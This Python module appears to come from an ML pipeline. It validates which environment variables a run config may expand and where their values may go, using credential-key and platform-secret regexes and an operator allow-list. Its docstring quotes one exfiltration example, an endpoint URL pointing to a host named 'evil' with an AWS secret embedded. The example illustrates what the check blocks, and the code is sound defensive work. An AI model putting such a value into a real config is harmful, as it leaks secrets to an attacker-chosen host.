"""What a config may take from a process's environment, and where it may send it.

A config is written by whoever starts a run, and on a cluster that is anyone who can create a flow run, while the
environment it is read in is the worker's: S3 keys, the Hugging Face token, the Prefect credentials. So a config may
name environment variables only where their value goes to the place they are meant for:

* ``${NAME}`` in ``storage.storage_options``, and only in a credential field (``key``, ``secret``, ``token``,
  ``password``, ...): never in a URL or any other field, where ``endpoint_url: http://evil/${AWS_SECRET_ACCESS_KEY}``
  would post the secret to a host the config chose.
* ``teacher.server.api_key_env``, the teacher server's bearer token, never a storage or platform credential
  (``PLATFORM_SECRET``): it is sent, as it is, to ``teacher.server.url``.

Both are checked when a config is read (``heal_core/config.py``), naming the key. On a worker, the operator can
narrow them further with ``HEAL_ALLOWED_ENV`` (comma-separated names): when it is set, no other name is expanded or
sent (``check_allowed``). Unset, as on a laptop where the user is the operator, the rules above are the only ones.
"""

from __future__ import annotations

import os
import re

CREDENTIAL_KEY = re.compile(r"(^|_)(key|secret|token|password|credentials?|connection_string)($|_)", re.IGNORECASE)
ENV_REFERENCE = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)\}")
PLATFORM_SECRET = re.compile(
    r"^(AWS_|MINIO_|POSTGRES|PG|PREFECT_|GOOGLE_|AZURE_|HF_|HUGGING_FACE_)|(SECRET_ACCESS_KEY|ACCESS_KEY_ID|"
    r"SESSION_TOKEN)$",
    re.IGNORECASE,
)
ALLOWED = "HEAL_ALLOWED_ENV"


class NotAllowed(ValueError):
    """A config names an environment variable the worker's operator has not allowed."""


def check_allowed(name: str, where: str) -> None:
    """Refuse ``name`` unless the worker allows it (``HEAL_ALLOWED_ENV``; every name when that is unset)."""
    allowed = os.environ.get(ALLOWED)
    if allowed is not None and name not in {n.strip() for n in allowed.split(",")}:
        raise NotAllowed(
            f"{where} names the environment variable {name}, which this worker does not allow ({ALLOWED}={allowed})"
        )
